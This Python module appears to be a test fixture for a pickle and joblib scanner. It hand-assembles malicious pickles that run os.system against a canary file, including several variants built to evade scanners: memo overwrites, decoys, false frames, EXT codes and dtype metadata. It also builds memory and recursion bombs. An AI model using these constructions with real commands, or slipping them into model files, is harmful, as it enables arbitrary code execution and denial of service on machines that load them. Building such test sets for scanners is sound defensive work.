"""Pickles assembled opcode by opcode: what no pickler writes, and what scanners have been fooled by. And bombs, which only cost.

Each function takes the path of a canary, which the pickle touches where it runs.
"""

from __future__ import annotations

import io
import pickle
import struct
import zlib
from collections.abc import Callable
from pathlib import Path

import joblib
import numpy as np

LOGISTIC = ("sklearn.linear_model._logistic", "LogisticRegression")


def text(value: str) -> bytes:
    """A short string on the stack."""
    data = value.encode()
    return b"\x8c" + bytes([len(data)]) + data


def stack_global(module: str, name: str) -> bytes:
    return text(module) + text(name) + b"\x93"


def call(canary: Path) -> bytes:
    """The argument tuple and REDUCE, after a callable that takes a shell command."""
    return text(f"touch {canary}") + b"\x85R"


def program(*parts: bytes) -> bytes:
    return b"\x80\x04" + b"".join(parts) + b"."


def exploits() -> dict[str, Callable[[Path], bytes]]:
    """Pickles that plain pickle.load runs."""
    return {
        "GLOBAL in protocol 0": lambda p: f"cos\nsystem\n(Vtouch {p}\ntR.".encode(),
        "INST": lambda p: f"(Vtouch {p}\nios\nsystem\n.".encode(),
        "OBJ": lambda p: b"(cos\nsystem\n" + text(f"touch {p}") + b"o.",
        "STACK_GLOBAL": lambda p: program(stack_global("os", "system"), call(p)),
        "a name by attributes of a module that is admitted": lambda p: program(
            stack_global("joblib.numpy_pickle", "os.system"), call(p)
        ),
        "a name by attributes, split in another place": lambda p: program(
            stack_global("sklearn", "preprocessing._data._array_api.os.system"), call(p)
        ),
        # The last two strings before STACK_GLOBAL are decoys that were dropped again.
        "decoys under POP": lambda p: program(
            text("os"), text("system"), text(LOGISTIC[0]), text(LOGISTIC[1]), b"00", b"\x93", call(p)
        ),
        "decoys under POP_MARK": lambda p: program(
            text("os"), text("system"), b"(", text(LOGISTIC[0]), text(LOGISTIC[1]), b"1", b"\x93", call(p)
        ),
        "names out of the memo": lambda p: program(
            text("system"), b"q\x07", b"0", text("os"), b"q\x08", b"0", b"h\x08h\x07\x93", call(p)
        ),
        # The memo says one thing when a scanner passes, and another when it is used.
        "a memo that is overwritten": lambda p: program(
            text("numpy"), b"q\0", b"0", text("os"), b"q\0", b"0", b"h\0", text("system"), b"\x93", call(p)
        ),
        "a name that is doubled": lambda p: program(
            text("system"), b"q\0", b"0", text("os"), b"2", b"0", b"h\0\x93", call(p)
        ),
        "a false frame": lambda p: b"\x80\x04\x95\x02\0\0\0\0\0\0\0N0" + stack_global("os", "system") + call(p) + b".",
        "a second PROTO": lambda p: program(b"\x80\x02", stack_global("os", "system"), call(p)),
        "a state that runs before an error": lambda p: program(stack_global("os", "system"), call(p), b"0\xff"),
        "__setstate__ put into an admitted object": lambda p: program(
            stack_global(*LOGISTIC),
            b")\x81}",
            text("x"),
            stack_global("os", "system"),
            b"s0",
            stack_global("os", "system"),
            call(p),
        ),
        "a dtype whose metadata runs": lambda p: program(
            stack_global("numpy", "dtype"),
            text("f8"),
            b"\x89\x88\x87R(K\x04",
            text("<"),
            b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\0}",
            text("x"),
            stack_global("os", "system"),
            call(p),
            b"stb",
        ),
        "the machine's own module": lambda p: program(
            stack_global("plmhead.unpickle", "io.open"), text(str(p)), text("w"), b"\x86R"
        ),
        "EXT1": lambda p: b"\x80\x02\x82\x7f" + b"(Vtouch " + str(p).encode() + b"\ntR.",
        "EXT2": lambda p: b"\x80\x02\x83\x7f\x7f" + b"(Vtouch " + str(p).encode() + b"\ntR.",
        "EXT4": lambda p: b"\x80\x02\x84\x7f\x7f\x7f\x7f" + b"(Vtouch " + str(p).encode() + b"\ntR.",
    }


EXTENSION_CODES = (0x7F, 0x7F7F, 0x7F7F7F7F)


def persistent() -> dict[str, Callable[[Path], bytes]]:
    """For unpicklers that look up persistent ids: plain pickle.load refuses them too."""
    return {
        "PERSID": lambda p: f"Pos.system('touch {p}')\n.".encode(),
        "BINPERSID": lambda p: program(text(f"touch {p}"), b"Q"),
        "out-of-band buffer": lambda p: b"\x80\x05\x97.",
    }


class Run:
    """An object whose pickle runs a shell command."""

    def __init__(self, canary: Path) -> None:
        self.command = f"touch {canary}"

    def __reduce__(self) -> tuple[object, ...]:
        import os

        return os.system, (self.command,)


def dumped(canary: Path, **options: object) -> bytes:
    """A joblib dump whose array of objects is a second pickle in the stream."""
    buffer = io.BytesIO()
    joblib.dump({"classes_": np.array([Run(canary), "b"], dtype=object)}, buffer, **options)
    return buffer.getvalue()


def wrapped(canary: Path) -> bytes:
    """The same, with a wrapper made by hand whose class runs."""
    wrapper = joblib.numpy_pickle.NumpyArrayWrapper(Run(canary), (1,), "C", np.dtype("f8"))
    return pickle.dumps(wrapper, protocol=4)


def joblib_exploits() -> dict[str, Callable[[Path], bytes]]:
    """Files that plain joblib.load runs."""
    return {
        "joblib objects": lambda p: dumped(p),
        "joblib objects, zlib": lambda p: dumped(p, compress=("zlib", 3)),
        "joblib objects, gzip": lambda p: dumped(p, compress=("gzip", 3)),
        "joblib wrapper of a class that runs": wrapped,
        "exploit, zlib": lambda p: zlib.compress(exploits()["STACK_GLOBAL"](p)),
    }


def dtype_of(kind: str, order: str) -> bytes:
    """A dtype on the stack."""
    state = b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\0tb"
    return stack_global("numpy", "dtype") + text(kind) + b"\x89\x88\x87R(K\x03" + text(order) + state


def one_scalar_without_end() -> bytes:
    """A string of 9,999 characters, made of the same bytes in the memo 40,000 times."""
    data = "\U0001f600".encode("utf-32-le") * 9999
    made = stack_global("numpy._core.multiarray", "scalar") + b"q\x020"
    stored = dtype_of("U9999", "<") + b"q\x000B" + struct.pack("<I", len(data)) + data + b"q\x010"
    return program(stored, made, b"](", b"h\x02h\0h\x01\x86R" * 40_000, b"e")


def one_list_without_end() -> bytes:
    """300 arrays of the same 400,000 objects in the memo."""
    shape = b"J" + struct.pack("<i", 400_000) + b"\x85"
    stored = b"(K\x01" + shape + dtype_of("O8", "|") + b"\x89(" + b"N" * 400_000 + b"ltq\x010"
    made = stack_global("numpy._core.multiarray", "_reconstruct") + b"q\x020"
    arguments = stack_global("numpy", "ndarray") + b"K\0\x85C\x01b\x87q\x030"
    return program(stored, made, arguments, b"](", b"h\x02h\x03Rh\x01b" * 300, b"e")


def bombs() -> dict[str, Callable[[], bytes]]:
    """Small files that ask for much memory or time, or for a deep stack."""
    array = (
        stack_global("numpy._core.multiarray", "_reconstruct")
        + stack_global("numpy", "ndarray")
        + b"K\0\x85C\x01b\x87R"
    )
    dtype = dtype_of("f8", "<")
    large = b"J\xff\xff\xff\x7f"
    doubling = b"".join(b"(h" + bytes([i]) + b"h" + bytes([i]) + b"lq" + bytes([i + 1]) + b"0" for i in range(60))
    doubled = text("x") + b"q\0" + b"0" + doubling + b"h\x3c"
    instance = stack_global(*LOGISTIC) + b")\x81}"
    weights = text("coef_") + array + b"(K\x01K\x01K\x02\x86" + dtype + b"\x89C\x10" + bytes(16) + b"tbs"
    return {
        "BINBYTES8 of 2^62 bytes": lambda: program(b"\x8e" + struct.pack("<Q", 2**62)),
        "BYTEARRAY8 of 2^62 bytes": lambda: b"\x80\x05\x96" + struct.pack("<Q", 2**62) + b".",
        "BINUNICODE8 of 2^40 bytes": lambda: program(b"\x8d" + struct.pack("<Q", 2**40)),
        "LONG4 of 2^31 bytes": lambda: program(b"\x8b" + struct.pack("<i", 2**31 - 1)),
        "LONG4 of a negative length": lambda: program(b"\x8b" + struct.pack("<i", -1)),
        "LONG of a million digits": lambda: b"L" + b"9" * 10**6 + b"L\n.",
        "LONG4 of a million bytes": lambda: program(b"\x8b" + struct.pack("<i", 10**6) + b"\x7f" * 10**6),
        "FLOAT of a million digits": lambda: b"F" + b"9" * 10**6 + b"\n.",
        "a memo index of 2^32 - 1": lambda: program(b"Nr\xff\xff\xff\xff"),
        "FRAME of 2^63 bytes": lambda: b"\x80\x04\x95" + struct.pack("<Q", 2**63) + b"N.",
        "lists that double 60 times": lambda: program(doubled),
        "a weight that doubles 60 times": lambda: program(instance, text("class_weight"), doubled, b"s", weights, b"b"),
        "an intercept that doubles 60 times": lambda: program(
            instance, text("intercept_"), doubled, b"s", weights, b"b"
        ),
        "lists 300,000 deep": lambda: program(b"]" * 300_000, b"a" * 299_999),
        "tuples 300,000 deep": lambda: program(b")", b"\x85" * 300_000),
        "a key 300,000 deep": lambda: program(b"})", b"\x85" * 300_000, b"Ns"),
        "marks 900,000 deep": lambda: program(b"(" * 900_000),
        "objects 100,000 deep": lambda: program(instance, (text("x") + instance) * 100_000, b"bs" * 100_000, b"b"),
        "two million opcodes": lambda: program(b"N0" * 1_000_000, b"N"),
        "an array of 2^93 values": lambda: program(array, b"(K\x01", large * 3, b"\x87", dtype, b"\x89C\0tb"),
        "an empty array of 2^93 rows": lambda: program(array, b"(K\x01(", b"K\0", large * 3, b"t", dtype, b"\x89C\0tb"),
        "an array of -1 values": lambda: program(array, b"(K\x01J\xff\xff\xff\xff\x85", dtype, b"\x89C\0tb"),
        "strings that are encoded without end": lambda: program(
            stack_global("_codecs", "encode"),
            b"q\0",
            b"X",
            struct.pack("<I", 10**6),
            b"x" * 10**6,
            text("latin1"),
            b"\x86q\x01",
            b"R0",
            b"h\0h\x01R0" * 200_000,
            b"N",
        ),
        "an array that is filled without end": lambda: program(
            stack_global("numpy._core.numeric", "_frombuffer"),
            b"q\0(B",
            struct.pack("<I", 8 * 10**5),
            bytes(8 * 10**5),
            dtype,
            b"J",
            struct.pack("<i", 10**5),
            b"\x85",
            text("C"),
            b"tq\x01",
            b"h\0h\x01R0" * 200_000,
            b"N",
        ),
        "a scalar that is made without end": one_scalar_without_end,
        "an array of objects that is filled without end": one_list_without_end,
        "320 MiB in a small file": lambda: zlib.compress(bytes(320 * 2**20), 1),
        "a gzip within a gzip": lambda: zlib.compress(zlib.compress(bytes(2**20), 9), 9),
    }
